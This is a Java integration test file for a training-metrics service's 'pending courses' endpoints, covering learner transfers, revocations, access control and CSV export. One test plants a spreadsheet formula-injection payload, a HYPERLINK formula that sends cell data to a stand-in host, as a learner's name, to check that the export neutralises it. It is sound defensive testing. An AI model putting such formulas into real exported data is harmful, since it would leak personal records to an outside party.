package org.karmayogi.pulse.metrics;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.karmayogi.pulse.metrics.consume.Records;
import tools.jackson.databind.JsonNode;

/** Who is still to complete courses, as things change. The tests build on each other. */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class PendingListIT extends LogToHttp {

    private static final String PENDING = "/v1/departments/SOCIAL-WELFARE/pending";

    private static Records transferred(String learner, String id, String department, String district) {
        return Records.of(
                        "learner.transferred",
                        learner,
                        id,
                        "{\"department\":\"" + department + "\",\"district\":\"" + district + "\"}")
                .header("ce_time", "2026-01-06T10:00:00+05:30")
                .header("ce_receivedat", "2026-01-06T04:31:00.000Z");
    }

    private List<String> ids(String query) {
        List<String> ids = new ArrayList<>();
        String cursor = "";
        do {
            JsonNode page = service.json(PENDING + "?limit=2&" + query + cursor);
            page.get("items").forEach(person -> ids.add(person.get("learnerId").asString()));
            cursor = page.get("nextCursor").isNull()
                    ? ""
                    : "&cursor=" + page.get("nextCursor").asString();
        } while (!cursor.isEmpty());
        return ids;
    }

    /** The lists after what was pushed; as long as the summary says they are. */
    private void assertPending(List<String> none, List<String> underThree) {
        JsonNode metrics =
                settled("/v1/metrics/summary?department=SOCIAL-WELFARE").get("metrics");
        assertThat(ids("with=none"))
                .isEqualTo(none)
                .hasSize(metrics.get("undergoingTraining").asInt());
        assertThat(ids("with=under-three"))
                .isEqualTo(underThree)
                .hasSize(metrics.get("completedFewerThanThree").asInt());
    }

    @Test
    @Order(1)
    void whoHasNothingAndWhoIsShortOfThree() throws Exception {
        for (int learner = 0; learner < 5; learner++) {
            push(Records.onboarded("UP-" + learner, "o" + learner));
            for (int course = 0; course < learner; course++) {
                push(Records.completed("UP-" + learner, "c" + learner + course, "do_" + course, 30));
            }
        }
        push(Records.completed("UP-not-onboarded", "n", "do_1", 30));
        assertPending(List.of("UP-0"), List.of("UP-0", "UP-1", "UP-2"));
        JsonNode person = service.json(PENDING).get("items").get(2);
        assertThat(person.get("completions").asInt()).isEqualTo(2);
        assertThat(person.get("missing").asInt()).isEqualTo(1);
        assertThat(person.get("category").asString()).isEqualTo("officer");
    }

    @Test
    @Order(2)
    void peopleWhoMoveAreOnTheirNewList() throws Exception {
        push(transferred("UP-1", "t1", "HOME", "AGRA"), transferred("UP-2", "t2", "SOCIAL-WELFARE", "AGRA"));
        assertPending(List.of("UP-0"), List.of("UP-0", "UP-2"));
        assertThat(ids("with=under-three&district=AGRA")).containsExactly("UP-2");
        assertThat(service.json("/v1/departments/HOME/pending").get("items").size())
                .isEqualTo(1);
    }

    @Test
    @Order(3)
    void whoseCompletionIsRevokedIsBackAndWhoLeavesIsGone() throws Exception {
        push(
                Records.of("course.revoked", "UP-3", "r3", "{\"courseId\":\"do_1\"}")
                        .header("ce_time", "2026-01-06T10:00:00+05:30")
                        .header("ce_receivedat", "2026-01-06T04:31:00.000Z"),
                Records.of("learner.deactivated", "UP-0", "d0", "{}")
                        .header("ce_time", "2026-01-06T10:00:00+05:30")
                        .header("ce_receivedat", "2026-01-06T04:31:00.000Z"));
        assertPending(List.of(), List.of("UP-2", "UP-3"));
    }

    @Test
    @Order(4)
    void asATableAndWithinWhatAKeyMaySee() {
        HttpResponse<String> table = service.get(PENDING, service.reader(), "Accept", "text/csv");
        assertThat(table.body().lines().toList())
                .hasSize(3)
                .first()
                .isEqualTo("learnerId,name,district,category,completions,missing,inProgress");
        assertThat(service.get(PENDING, service.confined()).statusCode()).isEqualTo(200);
        assertThat(service.get("/v1/departments/HOME/pending", service.confined())
                        .statusCode())
                .isEqualTo(403);
        assertThat(service.get(PENDING + "?with=some").body()).contains("some").contains("under-three");
        assertThat(service.get("/v1/departments/HOMES/pending").statusCode()).isEqualTo(400);
    }

    /** A name that a spreadsheet would run: the whole of a list could be sent away by opening it. */
    @Test
    @Order(5)
    void aNameLikeAFormulaIsTextInATableAndAsItCameInJson() throws Exception {
        String formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")";
        push(
                Records.of(
                        "learner.onboarded",
                        "@UP-formula",
                        "of",
                        "{\"department\":\"HOME\",\"district\":\"AGRA\",\"category\":\"officer\",\"name\":\""
                                + formula.replace("\"", "\\\"") + "\"}"),
                Records.of("course.enrolled", "@UP-formula", "ef", "{\"courseId\":\"-course/7,a/\"}"));
        settled("/v1/metrics/summary");

        JsonNode person =
                service.json("/v1/departments/HOME/pending").get("items").get(0);
        assertThat(person.get("learnerId").asString()).isEqualTo("@UP-formula");
        assertThat(person.get("name").asString()).isEqualTo(formula);
        assertThat(person.at("/inProgress/0").asString()).isEqualTo("-course/7,a/");
        String table = service.get("/v1/departments/HOME/pending", service.reader(), "Accept", "text/csv")
                .body();
        assertThat(table.lines().toList().get(1))
                .isEqualTo(
                        "'@UP-formula,\"'" + formula.replace("\"", "\"\"") + "\",AGRA,officer,0,3,\"'-course/7,a/\"");
        String courses = service.get("/v1/metrics/courses", service.reader(), "Accept", "text/csv")
                .body();
        assertThat(courses).contains("\n\"'-course/7,a/\",1,0,0,0.0,0.0");
    }
}
